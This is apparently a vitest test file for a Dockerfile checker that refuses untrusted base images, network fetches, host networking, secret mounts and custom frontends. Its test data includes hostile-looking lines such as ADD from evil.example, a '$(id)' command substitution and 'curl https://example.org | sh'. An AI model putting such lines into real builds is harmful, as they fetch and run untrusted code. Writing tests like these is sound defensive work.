import { describe, expect, it } from 'vitest';
import { checkDockerfile, type DockerfileOptions } from './check.ts';

const check = (text: string, options: Partial<DockerfileOptions> = {}) =>
  checkDockerfile('Dockerfile', text, { cache: 'c1', ...options });
const problems = (text: string, options?: Partial<DockerfileOptions>) => check(text, options).problems;

/** After a sound FROM, so that what is refused stands on line 2. */
const second = (line: string) => problems(`FROM python\n${line}\n`);

describe('what a Dockerfile may start from', () => {
  it.each([
    'python',
    'python:3.13-slim',
    'docker.io/library/python',
    'index.docker.io/python:3',
    'library/golang:1.26',
    `node@sha256:${'a'.repeat(64)}`,
    `node:22@sha256:${'0'.repeat(64)}`,
    'mcr.microsoft.com/dotnet/aspnet:9.0',
    'mcr.microsoft.com/dotnet/runtime-deps/nightly',
    'gcr.io/distroless/static-debian12:nonroot',
    'ghcr.io/astral-sh/uv:0.9',
    'apache/kafka:4.1.1',
    '--platform=$BUILDPLATFORM golang:1.26',
    '--platform=linux/amd64 golang',
    'scratch',
  ])('%s', image => {
    expect(problems(`FROM ${image}\n`)).toEqual([]);
  });

  it.each([
    'evil.example/python',
    'evil.example:5000/library/python',
    'docker.io:443/library/python',
    'localhost/python',
    'someone/python',
    'ghcr.io/library/python',
    'docker.io/evil/python',
    'gcr.io/distroless-evil/static',
    'mcr.microsoft.com/dotnet',
    'Python',
    'python@sha256:12',
    'python:..',
    'python:3:4',
    'registry.evil/x/../python',
    'python#x',
    'oci-layout://x',
    'docker-image://evil/x',
    'pyton',
  ])('not %s', image => {
    const found = problems(`# a comment\n  FROM ${image} AS base\n`);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(/^Dockerfile:2:3: `/);
    expect(found[0]).toContain(image);
  });

  it('says what was probably meant', () => {
    expect(problems('FROM pyton')[0]).toMatch(/Did you mean "python"\?$/);
  });

  it('images that the exam allows', () => {
    expect(
      problems('FROM registry.school.example/base:2', { images: ['registry.school.example/base'] }),
    ).toEqual([]);
    expect(problems('FROM school/any:1', { images: ['school/*'] })).toEqual([]);
    expect(problems('FROM schools/any', { images: ['school/*'] })).toHaveLength(1);
    expect(problems('FROM school/a/b', { images: ['school/base:1'] })).toHaveLength(1);
  });

  it('earlier stages, whatever their capitals; no later ones', () => {
    expect(
      problems(
        'FROM golang AS Build\nFROM build AS next\nFROM scratch\nCOPY --from=NEXT /a /a\nCOPY --from=0 /b /b',
      ),
    ).toEqual([]);
    expect(problems('FROM later\nFROM python AS later')).toHaveLength(1);
    expect(second('COPY --from=0 a b')).toHaveLength(1);
    expect(second('COPY --from=1 a b')).toHaveLength(1);
  });

  it('the images it names', () => {
    const text =
      'FROM golang:1.26 AS build\nFROM scratch\nCOPY --from=build /a /a\nCOPY --from=busybox:1 /b /b';
    expect(check(text).bases).toEqual(['busybox:1', 'golang:1.26']);
  });
});

describe('variables in FROM', () => {
  it.each<[string, Record<string, string>, string]>([
    ['ARG V=3.13\nFROM python:$V', {}, 'python:3.13'],
    ['ARG V=3.13\nFROM python:$V', { V: '3.12' }, 'python:3.12'],
    ['ARG V\nFROM python:${V:-3}', {}, 'python:3'],
    ['FROM ${BASE:-python}', {}, 'python'],
    ['ARG BASE="node:22" OTHER=x\nFROM $BASE', {}, 'node:22'],
    ["ARG BASE='node'\nFROM ${BASE}", {}, 'node'],
    ['ARG A=3\nARG B=$A.13\nFROM python:$B', {}, 'python:3.13'],
    ['ARG A=golang\nFROM $A AS x\nARG A=evil/x\nFROM $A', {}, 'golang'],
  ])('%j %j', (text, args, base) => {
    const found = check(text, { args });
    expect(found.problems).toEqual([]);
    expect(found.bases).toEqual([base]);
    expect(found.text).toContain(`FROM ${base}`);
  });

  it.each([
    ['FROM $BASE', {}],
    ['ARG BASE\nFROM $BASE', {}],
    ['ARG BASE=python\nFROM $BASE', { BASE: 'evil/x' }],
    ['ARG BASE=evil/x\nFROM ${BASE}', {}],
    ['ARG A=python\nFROM ${A#py}', {}],
    ['ARG A=python\nFROM "$A"', {}],
    ['FROM pyth\\on', {}],
    ['FROM python-$TARGETARCH', {}],
    ['ENV BASE=python\nFROM $BASE', {}],
    ['ARG A=$(id)\nFROM $A', {}],
  ] as [string, Record<string, string>][])('not %j', (text, args) => {
    expect(problems(text, { args })).toHaveLength(1);
  });
});

describe('what reaches out of the build', () => {
  it.each([
    ['ADD http://evil.example/x /x', 'fetches from the network'],
    ['ADD https://evil.example/x.tar.gz /', 'fetches from the network'],
    ['add ["HTTPS://evil.example/x", "/x"]', 'fetches from the network'],
    ['ADD ["http://evil.example/x","/x"]x', 'is not understood'],
    ['ADD git@github.com:a/b /x', 'fetches from the network'],
    ['ADD git://evil.example/x /x', 'fetches from the network'],
    ['ADD github.com/a/b /x', 'fetches from the network'],
    ['ADD repo.git#main /x', 'fetches from the network'],
    ['ADD --keep-git-dir=true x /x', 'fetches from the network'],
    ['ADD $URL /x', 'could fetch'],
    ['ADD ht\\tp://evil.example/x /x', 'fetches from the network'],
    ['ADD "a" /x', 'could fetch'],
    ['COPY --from=evil/x /a /a', 'not among the images'],
    ['COPY --from=$X /a /a', 'a variable cannot stand here'],
    ['COPY "--from=evil/x" /a /a', null],
    ['COPY --from="evil/x" /a /a', 'without quotes'],
    ['COPY --fr\\om=evil/x /a /a', 'without quotes'],
    ['COPY --chown=é--from=evil/x /a /a', 'without quotes'],
    ['COPY --form=evil/x /a /a', 'Did you mean "from"?'],
    ['RUN --mount=type=bind,from=evil/x,target=/x true', 'not among the images'],
    ['RUN --mount=FROM=evil/x,target=/x true', 'not among the images'],
    ['RUN --mount=type=cache,from=evil/x,target=/x true', 'not among the images'],
    ['RUN --mount=type=bind,from=python,from=evil/x,target=/x true', 'twice'],
    ['RUN --mount=type=ssh true', 'no keys and no secrets'],
    ['RUN --mount=type=secret,id=x true', 'no keys and no secrets'],
    ['RUN --mount=type=$X true', 'not known'],
    ['RUN --network=host true', 'uses the network that it is given'],
    ['RUN --security=insecure true', 'no more rights'],
    ['RUN --device=vendor/x true', 'a device of the machine'],
    ['RUN \\\n  # a comment\n  --network=host \\\n\n  true', 'uses the network that it is given'],
    ['ONBUILD ADD http://evil.example/x /x', 'fetches from the network'],
    ['ONBUILD COPY --from=evil/x / /', 'not among the images'],
    ['ONBUILD RUN --network=host true', 'uses the network that it is given'],
    ['ONBUILD FROM evil/x', 'is no instruction'],
    ['IMPORT evil', '`IMPORT` is no instruction'],
    ['FROM\u00a0evil/x', 'is no instruction'],
    ['HEALTHCHECK --interval=1ms CMD true', 'more than ten health checks a second'],
    ['HEALTHCHECK --start-interval=50ms CMD true', 'more than ten health checks a second'],
  ])('%j', (line, words) => {
    const found = second(line);
    if (words === null) expect(found).toEqual([]);
    else {
      expect(found).toHaveLength(1);
      expect(found[0]).toMatch(/^Dockerfile:2:1: /);
      expect(found[0]).toContain(words);
    }
  });

  it.each([
    'ADD src.tar.gz /app/',
    'ADD --chown=app:app ["a b.txt", "/x/"]'.replace('a b', 'ab'),
    'COPY --from=busybox /bin/sh /bin/sh',
    'COPY . .',
    'COPY ["mit leerzeichen ü", "/x"]',
    'RUN --mount=type=bind,source=go.mod,target=go.mod go mod download',
    'RUN --network=none make',
    'RUN --mount=type=tmpfs,target=/tmp true',
    'RUN curl https://example.org | sh',
    'RUN echo "a\\"b" && test 1 -lt 2',
    'HEALTHCHECK --interval=5s --timeout=2s --retries=3 CMD curl -f http://localhost:5000/health',
    'ONBUILD RUN make',
    'ENV URL=http://x A="b c"',
    'CMD ["python", "app.py"]',
    'maintainer someone',
    'SHELL ["/bin/bash", "-c"]',
    'RUN [ "x", "a << b" ]',
    'RUN cat <<<word',
  ])('%j is fine', line => {
    expect(second(line)).toEqual([]);
  });
});

describe('the program that builds', () => {
  it.each([
    'docker/dockerfile:1',
    'docker.io/docker/dockerfile:1.7-labs',
    'docker/dockerfile-upstream:master',
  ])('%s is left out', syntax => {
    const { problems, notes, text } = check(
      `# syntax=${syntax}\n# escape=\`\n\nFROM python\nRUN a \`\n  b\n`,
    );
    expect(problems).toEqual([]);
    expect(notes).toHaveLength(1);
    expect(text).toBe('# escape=`\n\n\nFROM python\nRUN a   b\n');
  });

  it.each([
    ['# syntax=evil/frontend\nFROM python', 1],
    ['#SYNTAX = evil/frontend\nFROM python', 1],
    ['#!shebang\n# syntax=evil/frontend\nFROM python', 2],
    ['\uFEFF# syntax=evil/frontend\nFROM python', 1],
    ['# check=skip=all\n# syntax=evil/frontend\nFROM python', 2],
    ['//syntax=evil/frontend\nFROM python', 1],
    ['# syntax=docker/dockerfile.evil/x\nFROM python', 1],
    ['# syntax=evil.example/docker/dockerfile\nFROM python', 1],
  ])('%j', (text, line) => {
    const found = check(text);
    expect(found.problems).toHaveLength(1);
    expect(found.problems[0]).toMatch(new RegExp(`^Dockerfile:${line}:1: `));
    expect(found.text).not.toContain('# syntax');
  });

  it('as JSON', () => {
    expect(problems('{"syntax": "evil/frontend"}')).not.toEqual([]);
  });

  it('a directive below the top is a comment', () => {
    const { problems, text } = check('FROM python\n# syntax=evil/frontend\n# escape=`\nRUN a \\\n b');
    expect(problems).toEqual([]);
    expect(text).toBe('FROM python\n\n\nRUN a  b\n');
  });
});

describe('heredocs', () => {
  it('are taken over, and what is in them is no instruction', () => {
    const text =
      'FROM python\nRUN --network=none <<EOF\nFROM evil/x\n  # kept \\\nEOF\nCOPY <<A <<-"B" /x/\na\nA\n\tb\n\tB\nUSER app\n';
    const { problems, text: written } = check(text);
    expect(problems).toEqual([]);
    expect(written).toBe(
      'FROM python\nRUN --network=none <<EOF\nFROM evil/x\n  # kept \\\nEOF\nCOPY <<A <<-"B" /x/\na\nA\n\tb\nB\nUSER app\n',
    );
  });

  it('with CRLF', () => {
    expect(check('FROM python\r\nRUN <<EOF\r\nx\r\nEOF\r\nUSER a\r\n').text).toBe(
      'FROM python\nRUN <<EOF\nx\nEOF\nUSER a\n',
    );
  });

  it.each([
    'RUN echo " <<EOF "',
    "RUN echo ' <<EOF '",
    'RUN echo \\" <<EOF',
    'RUN <<EOF "unterminated',
    'RUN <<EOF ${x',
    'RUN [] <<EOF',
    'RUN ["a"] <<EOF',
    'RUN cat<<EOF',
    'RUN <<EOF|sh',
    'RUN <<E"O"F',
    'RUN a\u00a0<<EOF',
    'RUN echo $((1<<2))',
    'ONBUILD RUN <<EOF',
  ])('refused where the engine may see none: %j', line => {
    const found = problems(`FROM python\n${line}\nUSER a\nEOF\n`);
    expect(found[0]).toContain('begins a heredoc here, or it does not');
  });

  it('that do not end', () => {
    expect(second('RUN <<EOF\nx')[0]).toContain('does not end: expected a line `EOF`');
  });
});

describe('the file as a whole', () => {
  it('is written anew: comments gone, lines joined, each instruction where it was', () => {
    const text =
      'arg V=3\n\n# why\nfrom python:$V as  base \nRUN a && \\\n  # between\n\n  b\n\tUSER app\nCOPY --from=base \\\n /x /x\n';
    expect(check(text).text).toBe(
      'ARG V=3\n\n\nFROM python:3 AS base\nRUN a &&   b\n\n\n\nUSER app\nCOPY --from=base  /x /x\n',
    );
  });

  it('names caches by the submission', () => {
    const { text } = check(
      'FROM golang\nRUN --mount=type=cache,target=/root/.cache --mount=type=cache,id=m,dst=/m,sharing=locked go build',
    );
    expect(text).toContain(
      'RUN --mount=type=cache,target=/root/.cache,id=c1-/root/.cache --mount=type=cache,id=c1-m,dst=/m,sharing=locked go build\n',
    );
  });

  it.each([
    ['', 'no `FROM`'],
    ['USER a', 'no `FROM`'],
    [`FROM python\n#${'x'.repeat(64 * 1024)}`, 'larger than 64 KiB'],
    [`FROM python\n${'RUN a\n'.repeat(300)}`, 'more than 300 instructions'],
    ['FROM python AS', 'not understood'],
    ['FROM python AS a b', 'not understood'],
    ['FROM python AS 1x', 'no name of a stage'],
    ['FROM', 'not understood'],
    ['# escape=x\nFROM python', 'is not known'],
    ['FROM python\nRUN a \\\u00a0\nUSER b', 'begin and end'],
  ])('%j', (text, words) => {
    expect(problems(text).join('\n')).toContain(words);
  });

  it('says everything at once, in order, without control characters', () => {
    const found = problems('FROM evil/a\nADD http://x /x\nBAD\u001b[2J\nRUN --network=host x\n');
    expect(found.map(line => line.split(': ')[0])).toEqual([
      'Dockerfile:1:1',
      'Dockerfile:2:1',
      'Dockerfile:3:1',
      'Dockerfile:4:1',
    ]);
    expect(found.join('')).not.toContain('\u001b');
  });

  it('what is written is read again as the same, for any mixture of pieces', () => {
    const pieces = [
      'FROM python',
      'RUN ',
      'a',
      '\\',
      '\\\\',
      '`',
      '\n',
      '\n',
      ' ',
      '\t',
      '\r',
      '#',
      '<<EOF',
      '\nEOF\n',
      '"',
      "'",
      '$',
      '{',
      '[',
      ']',
      'USER x',
      'ADD x /x',
      '\u00a0',
      '\u0085',
      '\ufeff',
      '# escape=`\n',
    ];
    let seed = 7;
    const random = (below: number) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return Math.floor((seed / 2147483648) * below);
    };
    let sound = 0;
    for (let round = 0; round < 3000; round++) {
      const text = `FROM python\n${Array.from({ length: 1 + random(14) }, () => pieces[random(pieces.length)]).join('')}`;
      const first = check(text);
      if (first.problems.length > 0) continue;
      sound++;
      const second = check(first.text);
      expect({ source: text, ...second }).toEqual({ source: text, ...first, notes: [] });
    }
    expect(sound).toBeGreaterThan(100);
  });
});
